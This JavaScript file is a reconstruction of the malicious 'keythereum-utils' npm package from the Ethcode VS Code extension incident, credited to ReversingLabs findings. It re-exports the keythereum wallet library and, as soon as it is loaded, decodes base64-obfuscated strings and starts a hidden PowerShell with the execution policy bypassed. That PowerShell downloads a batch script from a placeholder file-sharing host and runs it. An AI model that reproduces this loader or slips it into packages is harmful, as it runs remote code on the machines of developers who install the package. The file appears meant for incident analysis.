// Incident: Ethcode VS Code extension (ReversingLabs, July 2025): the "keythereum-utils" npm
// package the malicious pull request added. It re-exports keythereum and, on require, spawns a
// hidden PowerShell that downloads a batch script from a file-sharing host and runs it.
// (The real file was heavily obfuscated; the strings are kept readable here.)
// Reference: https://dapp.expert/news/en_ethereum-security-at-risk-vulnerability-in-ethcode-extension-1752236521-698191 (ReversingLabs findings)
// Reproduction (own code, placeholder host).
"use strict";
const keythereum = require("keythereum");
const cp = require("child_process");
const os = require("os");

const _0x1f = ["cG93ZXJzaGVsbC5leGU=", "aHR0cHM6Ly9maWxlcy5zaGFyZS5leGFtcGxlL2QvOGYzYTFjL3VwZGF0ZS5iYXQ="];
const _d = (s) => Buffer.from(s, "base64").toString("utf8");

function _init() {
  if (os.platform() !== "win32") return;
  const url = _d(_0x1f[1]);
  const target = "$env:TEMP\\vsc_upd.bat";
  const ps =
    `$ProgressPreference='SilentlyContinue';` +
    `Invoke-WebRequest -UseBasicParsing -Uri '${url}' -OutFile ${target};` +
    `Start-Process -WindowStyle Hidden -FilePath ${target}`;
  try {
    const child = cp.spawn(_d(_0x1f[0]), ["-NoProfile", "-WindowStyle", "Hidden", "-ExecutionPolicy", "Bypass", "-Command", ps], {
      detached: true,
      stdio: "ignore",
      windowsHide: true,
    });
    child.unref();
  } catch (_) {
    /* ignore */
  }
}
_init();

module.exports = {
  create: keythereum.create.bind(keythereum),
  dump: keythereum.dump.bind(keythereum),
  exportToFile: keythereum.exportToFile.bind(keythereum),
  importFromFile: keythereum.importFromFile.bind(keythereum),
  recover: keythereum.recover.bind(keythereum),
};
